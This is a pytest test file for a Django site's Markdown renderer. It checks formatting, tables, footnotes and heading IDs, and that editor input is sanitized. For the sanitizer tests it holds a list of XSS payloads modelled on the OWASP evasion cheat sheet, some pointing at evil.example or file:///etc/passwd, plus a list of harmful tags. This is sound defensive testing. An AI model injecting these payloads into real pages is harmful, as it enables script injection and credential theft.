"""What editors write becomes HTML, and nothing more than they may."""

import re

import pytest
from django.conf import settings

from tests.factories import make_article
from therapydir.pages import markdown
from therapydir.pages.markdown import render_markdown


def html(text):
    return render_markdown(text).html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("## After a *stroke*", '<h2 id="after-a-stroke">After a <em>stroke</em></h2>'),
        ("# Too big", '<h2 id="too-big">Too big</h2>'),
        ("**b** *i* ~~no~~ `c`", "<p><strong>b</strong> <em>i</em> <s>no</s> <code>c</code></p>"),
        ("[in](/locations/)", '<a href="/locations/">in</a>'),
        ("[here](http://127.0.0.1:8000/locations/)", '<a href="http://127.0.0.1:8000/locations/">here</a>'),
        ("[out](https://www.bls.gov/)", '<a href="https://www.bls.gov/" rel="external noopener">out</a>'),
        ("[call](tel:+15551234567)", '<a href="tel:+15551234567">call</a>'),
        ('It\'s "quoted" -- so...', "It’s “quoted” – so…"),
        ("PT\n:   moves", "<dl>\n<dt>PT</dt>\n<dd>moves</dd>\n</dl>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
    ],
)
def test_markdown_becomes_html(text, expected):
    assert expected in html(text)


def test_tables_are_scrollable_and_have_header_cells():
    text = html("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n| | c |\n|---|---|\n| 3 | 4 |")
    for number in (1, 2):
        opening = f'<div class="scroll" role="region" tabindex="0" aria-label="Table {number}"><table>'
        assert opening in text
    assert '<td></td>\n<th scope="col">c</th>' in text
    assert '<th scope="col" class="center">a</th>' in text or '<th class="center" scope="col">a</th>' in text
    assert '<td class="right">2</td>' in text


def test_footnotes_link_there_and_back():
    text = html("Fact.[^1]\n\n[^1]: Source.")
    assert '<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup>' in text
    assert '<li id="fn1" class="footnote-item">' in text
    assert '<a href="#fnref1" class="footnote-backref" aria-label="Back to reference 1">↩</a>' in text


def test_headings_make_a_table_of_contents():
    rendered = render_markdown("## One & two\n\n### *Three*\n\n## One & two\n\n#### Four\n\n##### Five")
    assert [(h.level, h.id, h.text) for h in rendered.headings] == [
        (2, "one-two", "One & two"),
        (3, "three", "Three"),
        (2, "one-two-1", "One & two"),
        (4, "four", "Four"),
    ]


IDS_OF_TEMPLATES = {
    found
    for file in (settings.BASE_DIR / "templates").rglob("*.html")
    for found in re.findall(r'id="([a-z]+)"', file.read_text())
    if file.parent.name != "admin" and not file.stem.startswith(("guide", "design"))  # no texts of editors
}


@pytest.mark.parametrize("name", sorted(IDS_OF_TEMPLATES))
def test_a_heading_never_takes_an_id_of_the_page(name):
    assert f'id="{name}"' not in html(f"## {name}")
    assert render_markdown(f"## {name}").headings[0].id == f"{name}-section"


def test_a_heading_without_letters_still_has_an_id():
    assert render_markdown("## 🦾").headings[0].id == "section"


# Collected from the OWASP XSS filter evasion cheat sheet's families, in words of our own.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password></form>",
    "<object data=data:text/html,x></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<<script>alert(1);//<</script>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](data:image/png;base64,AAAA)",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    '[x](/ "title" onmouseover="alert(1)")',
    '[x](/a"onmouseover="alert(1))',
    '## x" onclick="alert(1)',
    "## <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^<script>]\n\n[^<script>]: y",
    "<script>alert(1)</script>\n:   <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](http://[)",
    "\u0000<script>alert(1)</script>",
]
TAGS = re.compile(r"<([a-z][a-z0-9]*)((?:[^>\"]|\"[^\"]*\")*)>", re.IGNORECASE)
ATTRIBUTES = re.compile(r"([a-z-]+)(?:=\"([^\"]*)\")?", re.IGNORECASE)
HARMFUL_TAGS = set(
    "script style img svg iframe object embed form input link meta base body math details".split()
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_harmful_gets_through(payload):
    for tag, attributes in TAGS.findall(html(f"Before.\n\n{payload}\n\nAfter.")):
        assert tag.lower() not in HARMFUL_TAGS
        for name, value in ATTRIBUTES.findall(attributes):
            assert not name.lower().startswith(("on", "style", "src"))
            if name == "href":
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
                assert scheme is None or scheme[1] in ("http", "https", "mailto", "tel"), value


def test_raw_html_is_shown_as_the_text_it_is(client, db):
    article = make_article(body="<script>alert(1)</script> & <b>bold</b>")
    content = client.get(article.get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in content


SECOND_WALL = {
    "<script>alert(1)</script>": "",
    '<p onclick="alert(1)">x</p>': "<p>x</p>",
    '<p style="color: red">x</p>': "<p>x</p>",
    '<a href="javascript:alert(1)">x</a>': "<a>x</a>",
    '<a href="ftp://evil.example/">x</a>': "<a>x</a>",
    '<a href="data:text/html,x">x</a>': "<a>x</a>",
    '<p class="masthead">x</p>': "<p>x</p>",
    '<img src="x"><iframe src="x"></iframe>': "",
}


@pytest.mark.parametrize("written", SECOND_WALL)
def test_what_gets_through_the_first_wall_does_not_get_through_the_second(monkeypatch, written):
    monkeypatch.setattr(markdown._markdown.renderer, "render", lambda *given: written)
    rendered = render_markdown.__wrapped__("nothing")
    assert re.sub(' class=""', "", str(rendered.html)) == SECOND_WALL[written]
